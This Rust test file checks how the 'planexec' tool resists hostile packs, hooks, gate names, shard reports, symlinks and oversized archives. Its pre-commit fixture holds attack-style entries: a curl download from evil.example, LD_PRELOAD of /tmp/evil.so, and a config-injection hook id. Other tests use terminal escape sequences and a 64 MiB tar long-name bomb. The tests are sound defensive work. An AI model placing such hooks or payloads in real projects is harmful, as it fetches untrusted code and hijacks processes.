//! The host's own handling of hostile input (issue 33, family 3): pack updates, pack
//! text, imported hooks, workflow gate names, shard reports, write paths, archives.

use crate::packs::{command_wasm, lock_of, Env, Server};
use crate::support::*;
use planexec_record::{Finding, RunRecord, Severity, ShardResult};
use std::path::{Path, PathBuf};

/// A pack folder whose plugin `acme-check` has this `[requests]` body besides its command.
fn pack_with_requests(dir: &Path, version: &str, requests: &str) {
    write(
        dir,
        "pack.toml",
        &format!("name = \"acme\"\nversion = \"{version}\"\ndescription = \"Acme's gates\"\n"),
    );
    write(
        dir,
        "acme-check/plugin.toml",
        &format!("name = \"acme-check\"\nkind = \"gate\"\nversion = \"{version}\"\ncomponent = \"acme-check.wasm\"\n\n[requests]\ncommands = [\"true\"]\n{requests}"),
    );
    std::fs::copy(command_wasm(), dir.join("acme-check/acme-check.wasm")).unwrap();
}

/// A git repository holding `versions` (version, requests) as tags v1, v2, ...
fn tagged_pack(root: &Path, versions: &[(&str, &str)]) -> PathBuf {
    let repo = root.join("acme-gates");
    std::fs::create_dir_all(&repo).unwrap();
    git(&repo, &["init", "-q", "-b", "main"]);
    git(&repo, &["config", "user.email", "t@example.com"]);
    git(&repo, &["config", "user.name", "t"]);
    for (i, (version, requests)) in versions.iter().enumerate() {
        pack_with_requests(&repo, version, requests);
        git(&repo, &["add", "-A"]);
        git(&repo, &["commit", "-qm", version]);
        git(&repo, &["tag", &format!("v{}", i + 1)]);
    }
    repo
}

fn no_raw_escape(out: &Out) {
    assert!(
        !out.all().contains('\u{1b}') && !out.all().contains('\u{9b}'),
        "a raw escape reached the terminal: {out:?}"
    );
}

#[test]
fn packs_update_names_workspace_access_and_raised_limits() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = tagged_pack(
        tmp.path(),
        &[
            ("1.0.0", "workspace = \"none\"\ntimeout = \"1m\"\nmemory = \"64MiB\"\n"),
            ("1.0.1", "workspace = \"read-only\"\ntimeout = \"1h\"\nmemory = \"2GiB\"\n\n[requests.limits]\ncpu = \"2h\"\nprocesses = 4096\n"),
        ],
    );
    let ws = tmp.path().join("ws");
    write(&ws, "planexec.toml", "[policy]\ngrant = [\"true\"]\n");
    let env = Env::new(tmp.path());
    let src = format!("git+file://{}#v1", repo.display());
    let out = env.run(&ws, &["packs", "add", &src, "--yes"]);
    assert_eq!(out.code, 0, "{out:?}");
    assert!(
        out.stdout
            .contains("`acme-check` workspace: none; call timeout 1m, call memory 64 MiB"),
        "{out:?}"
    );

    let toml = std::fs::read_to_string(ws.join("planexec.toml")).unwrap();
    std::fs::write(ws.join("planexec.toml"), toml.replace("#v1", "#v2")).unwrap();
    let before = std::fs::read_to_string(ws.join("planexec.lock")).unwrap();
    let out = env.run(&ws, &["packs", "update"]);
    assert_eq!(out.code, 1, "nothing is written without --yes: {out:?}");
    for line in [
        "+ `acme-check` workspace: none -> read-only",
        "+ `acme-check` raises call timeout: 1m -> 1h",
        "+ `acme-check` raises call memory: 64 MiB -> 2 GiB",
        "+ `acme-check` raises program cpu time: 1h -> 2h",
        "+ `acme-check` raises program processes: 1024 -> 4096",
    ] {
        assert!(out.stdout.contains(line), "missing `{line}`: {out:?}");
    }
    assert_eq!(
        std::fs::read_to_string(ws.join("planexec.lock")).unwrap(),
        before
    );
    let out = env.run(&ws, &["packs", "update", "--yes"]);
    assert_eq!(out.code, 0, "{out:?}");
    let r = &lock_of(&ws)["packs"]["acme"]["plugins"][0]["resources"];
    assert_eq!(r["workspace"].as_str(), Some("read-only"), "{r:?}");
    assert_eq!(r["timeout_secs"].as_integer(), Some(3600), "{r:?}");
}

#[test]
fn pack_text_cannot_forge_what_the_reviewer_sees() {
    let tmp = tempfile::tempdir().unwrap();
    let pack = tmp.path().join("pack");
    pack_with_requests(&pack, "1.0.0", "");
    // A version that clears the screen and prints a harmless-looking line.
    write(
        &pack,
        "pack.toml",
        "name = \"acme\"\nversion = \"1.0.0\\u001b[2J\\u001b[Hacme 1.0.0: reviewed, no programs\"\n",
    );
    let ws = tmp.path().join("ws");
    write(&ws, "planexec.toml", "[policy]\ngrant = [\"true\"]\n");
    let env = Env::new(tmp.path());
    let out = env.run(&ws, &["packs", "add", pack.to_str().unwrap(), "--yes"]);
    no_raw_escape(&out);
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        out.stderr
            .contains("pack.toml: field `version`: contains control characters"),
        "{out:?}"
    );
    assert!(!ws.join("planexec.lock").exists());

    // A name chosen in a repository's planexec.toml is escaped wherever it is printed.
    pack_with_requests(&pack, "1.0.0", "");
    write(
        &ws,
        "planexec.toml",
        &format!(
            "[policy]\ngrant = [\"true\"]\n\n[packs.\"\\u001b[2Jacme\"]\nsource = {:?}\n",
            pack.to_str().unwrap()
        ),
    );
    let out = env.run(&ws, &["packs", "update"]);
    no_raw_escape(&out);
    assert!(out.stdout.contains("pack `\\x1b[2Jacme`:"), "{out:?}");
    let out = env.run(&ws, &["packs", "update", "--yes"]);
    assert_eq!(out.code, 0, "{out:?}");
    let out = env.run(&ws, &["packs", "list"]);
    no_raw_escape(&out);
    assert!(out.stdout.contains("\\x1b[2Jacme 1.0.0"), "{out:?}");
}

const HOSTILE_PRE_COMMIT: &str = r#"repos:
  - repo: local
    hooks:
      - id: lint
        entry: sh
        args: ["-c", "curl -s https://evil.example/x -o /tmp/x"]
        language: system
      - id: fmt
        entry: bash scripts/fmt.sh
        language: system
      - id: preload
        entry: env LD_PRELOAD=/tmp/evil.so true
        language: system
      - id: inline
        entry: python3 -c "print(1)"
        language: system
      - id: assign
        entry: LD_PRELOAD=/tmp/evil.so true
        language: system
      - id: "x\n[gates.evil]\nplugin = \"command\"\ncommand = \"curl\"\n#"
        entry: "true"
        language: system
      - id: "esc\e[2Jok"
        entry: "true"
        language: system
      - id: ok
        entry: "true"
        language: system
        pass_filenames: false
"#;

#[test]
fn init_never_grants_a_shell_or_wrapper_and_writes_a_config_that_parses() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    write(d, ".pre-commit-config.yaml", HOSTILE_PRE_COMMIT);
    write(d, "lefthook.yml", "pre-commit:\n  commands:\n    wrap:\n      run: xargs -a list rm\n    good:\n      run: \"false\"\n");
    let out = planexec(d, &["init"]);
    no_raw_escape(&out);
    assert_eq!(out.code, 0, "{out:?}");
    let text = std::fs::read_to_string(d.join("planexec.toml")).unwrap();
    let toml: toml::Table = toml::from_str(&text).unwrap_or_else(|e| panic!("{e}\n{text}"));
    let grants: Vec<&str> = toml["policy"]["grant"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|g| g.as_str())
        .collect();
    assert_eq!(grants, ["false", "true"], "{text}");
    let mut gates: Vec<&String> = toml["gates"].as_table().unwrap().keys().collect();
    gates.sort();
    assert_eq!(gates, ["lefthook-good", "pre-commit-ok"], "{text}");
    for why in [
        "`sh` is a shell",
        "`bash` is a shell",
        "`env` runs the program named in its arguments",
        "`xargs` runs the program named in its arguments",
        "`python3 -c` runs code written in the hook file itself",
        "`LD_PRELOAD=/tmp/evil.so` sets an environment variable",
        "not a name planexec can give a gate",
    ] {
        assert!(out.stdout.contains(why), "missing `{why}`: {out:?}");
    }
    // The config init wrote is the one planexec then reads.
    let out = planexec(d, &["gate", "run", "pre-commit-ok"]);
    assert_eq!(out.code, 0, "{out:?}");
}

#[test]
fn ci_github_refuses_gate_names_that_read_as_options() {
    let tmp = tempfile::tempdir().unwrap();
    write(
        tmp.path(),
        "planexec.toml",
        "[gates.\"--trust\"]\nplugin = \"command\"\ncommand = \"true\"\n\n[gates.\"--unconfined\"]\nplugin = \"command\"\ncommand = \"true\"\n",
    );
    let out = planexec_env(tmp.path(), &["ci", "github"], &[("PLANEXEC_TRUST", "0")]);
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        !out.stdout.contains("--trust") && !out.stdout.contains("--unconfined"),
        "{out:?}"
    );
    assert!(
        out.stderr.contains("gate `--trust`") && out.stderr.contains("rename the gate"),
        "{out:?}"
    );
    let out = planexec(
        tmp.path(),
        &["ci", "github", "--shards", "2", "--", "--unconfined"],
    );
    assert_ne!(out.code, 0, "{out:?}");
    assert!(!out.stdout.contains("--unconfined"), "{out:?}");
}

/// A real shard report of a trivial gate, read back as a record.
fn shard_record(ws: &Path) -> RunRecord {
    write(
        ws,
        "planexec.toml",
        "[policy]\ngrant = [\"true\"]\n\n[gates.lint]\nplugin = \"command\"\ncommand = \"true\"\n",
    );
    let out = planexec(
        ws,
        &[
            "gate",
            "run",
            "lint",
            "--shard",
            "1/2",
            "--report",
            "json=s.json",
        ],
    );
    assert_eq!(out.code, 0, "{out:?}");
    RunRecord::from_json(&std::fs::read_to_string(ws.join("s.json")).unwrap()).unwrap()
}

fn save(rec: &RunRecord, path: &Path) {
    std::fs::write(path, serde_json::to_string(rec).unwrap()).unwrap();
}

#[test]
fn report_merge_caps_the_shard_count() {
    let tmp = tempfile::tempdir().unwrap();
    let mut rec = shard_record(tmp.path());
    rec.shard.as_mut().unwrap().count = u32::MAX;
    let p = tmp.path().join("huge.json");
    save(&rec, &p);
    let out = planexec(tmp.path(), &["report", "merge", p.to_str().unwrap()]);
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        out.stderr.contains("claims to be one of 4294967295 shards")
            && out.stderr.contains("at most 1024"),
        "{out:?}"
    );
}

/// Shard `index` of 2 of `rec` whose gate reports `findings` (a list of one test list).
fn with_findings(rec: &RunRecord, index: u32, findings: Vec<Finding>) -> RunRecord {
    let mut r = rec.clone();
    let s = r.shard.as_mut().unwrap();
    s.index = index;
    let report = &mut r.final_gates[0].report;
    report.shard = Some(ShardResult {
        index,
        count: 2,
        listed: 2,
        list_digest: format!("sha256:{}", "ab".repeat(32)),
    });
    report.findings = findings;
    r
}

#[test]
fn report_merge_of_many_findings_finishes_and_lists_each_once() {
    let tmp = tempfile::tempdir().unwrap();
    let rec = shard_record(tmp.path());
    let finding = |i: usize| Finding {
        severity: Severity::Minor,
        rule: "hostile".into(),
        message: format!("finding {i}"),
        path: Some(format!("f{}.py", i % 97)),
        line: Some(i as u32),
        column: None,
        end_line: None,
        end_column: None,
    };
    // 200,000 findings in two shards, 50,000 of them in both: 150,000 distinct.
    const N: usize = 100_000;
    let a = with_findings(&rec, 1, (0..N).map(finding).collect());
    let b = with_findings(&rec, 2, (N / 2..N + N / 2).map(finding).collect());
    let (pa, pb) = (tmp.path().join("a.json"), tmp.path().join("b.json"));
    save(&a, &pa);
    save(&b, &pb);
    // Quadratic de-duplication takes many minutes here; a hash set well under one.
    let dir = tmp.path().to_path_buf();
    let out = within(std::time::Duration::from_secs(120), move || {
        planexec(
            &dir,
            &[
                "report",
                "merge",
                pa.to_str().unwrap(),
                pb.to_str().unwrap(),
            ],
        )
    })
    .expect("report merge did not finish within two minutes");
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(out.stdout.matches(" [hostile] finding ").count(), N + N / 2);
}

/// `f()` on a thread; None if it has not returned after `limit`.
fn within<T: Send + 'static>(
    limit: std::time::Duration,
    f: impl FnOnce() -> T + Send + 'static,
) -> Option<T> {
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(f());
    });
    rx.recv_timeout(limit).ok()
}

#[test]
fn a_granted_write_path_through_a_committed_symlink_is_refused_and_nothing_is_made_outside() {
    let tmp = tempfile::tempdir().unwrap();
    let outside = tmp.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    let ws = tmp.path().join("ws");
    write(&ws, "planexec.toml", "[policy]\ngrant = [\"true\"]\n\n[policy.plugins.command]\nwrites = [\"out/made/\"]\n\n[gates.check]\nplugin = \"command\"\ncommand = \"true\"\n");
    std::os::unix::fs::symlink(&outside, ws.join("out")).unwrap();
    git(&ws, &["init", "-q", "-b", "main"]);
    git(
        &ws,
        &["-c", "user.email=t@e", "-c", "user.name=t", "add", "-A"],
    );
    git(
        &ws,
        &[
            "-c",
            "user.email=t@e",
            "-c",
            "user.name=t",
            "commit",
            "-qm",
            "link",
        ],
    );
    let out = planexec(&ws, &["gate", "run", "check"]);
    assert_ne!(out.code, 0, "{out:?}");
    assert!(
        out.all().contains("writes `out/made/`") && out.all().contains("is a symlink"),
        "{out:?}"
    );
    assert!(
        !outside.join("made").exists(),
        "planexec created a folder outside the workspace through the link"
    );
    // A write path that is itself the link is refused the same way.
    write(&ws, "planexec.toml", "[policy]\ngrant = [\"true\"]\n\n[policy.plugins.command]\nwrites = [\"out/\"]\n\n[gates.check]\nplugin = \"command\"\ncommand = \"true\"\n");
    let out = planexec(&ws, &["gate", "run", "check"]);
    assert_ne!(out.code, 0, "{out:?}");
    assert!(out.all().contains("is a symlink"), "{out:?}");
}

/// A pack archive whose first entry is preceded by `prefix` raw tar entries.
fn archive_with(
    pack: &Path,
    prefix: impl FnOnce(&mut tar::Builder<flate2::write::GzEncoder<Vec<u8>>>),
) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let mut b = tar::Builder::new(gz);
    prefix(&mut b);
    b.append_dir_all("acme", pack).unwrap();
    b.into_inner().unwrap().finish().unwrap()
}

fn raw_header(name: &str, kind: tar::EntryType, size: u64) -> tar::Header {
    let mut h = tar::Header::new_gnu();
    h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
    h.set_entry_type(kind);
    h.set_size(size);
    h.set_mode(0o644);
    h.set_cksum();
    h
}

#[test]
fn an_archive_with_a_huge_long_name_or_too_many_entries_is_refused_before_it_is_read() {
    let tmp = tempfile::tempdir().unwrap();
    let pack = tmp.path().join("pack");
    pack_with_requests(&pack, "1.0.0", "");
    let ws = tmp.path().join("ws");
    write(&ws, "planexec.toml", "[policy]\ngrant = [\"true\"]\n");
    let env = Env::new(tmp.path());
    let server = Server::start();
    // A GNU long name of 64 MiB (64 KiB compressed) naming the entry after it.
    let long: u64 = 64 << 20;
    let gz = archive_with(&pack, |b| {
        b.append(
            &raw_header("././@LongLink", tar::EntryType::GNULongName, long),
            std::io::Read::take(std::io::repeat(b'a'), long),
        )
        .unwrap();
        b.append(&raw_header("x", tar::EntryType::Regular, 1), &b"x"[..])
            .unwrap();
    });
    assert!(gz.len() < 1 << 20, "{} bytes", gz.len());
    let url = server.serve("/long.tar.gz", gz);
    let out = env.run(&ws, &["packs", "add", &url, "--yes"]);
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        out.stderr
            .contains("a GNU long name of 67108864 bytes, over the 4096 bytes"),
        "{out:?}"
    );
    assert!(!ws.join("planexec.lock").exists());

    // 40,001 folder entries: more than any pack of 10,000 files needs.
    let gz = archive_with(&pack, |b| {
        for i in 0..=40_000 {
            b.append(
                &raw_header(&format!("acme/d{i}/"), tar::EntryType::Directory, 0),
                std::io::empty(),
            )
            .unwrap();
        }
    });
    let url = server.serve("/many.tar.gz", gz);
    let out = env.run(&ws, &["packs", "add", &url, "--yes"]);
    assert_eq!(out.code, 2, "{out:?}");
    assert!(out.stderr.contains("more than 40000 entries"), "{out:?}");
}
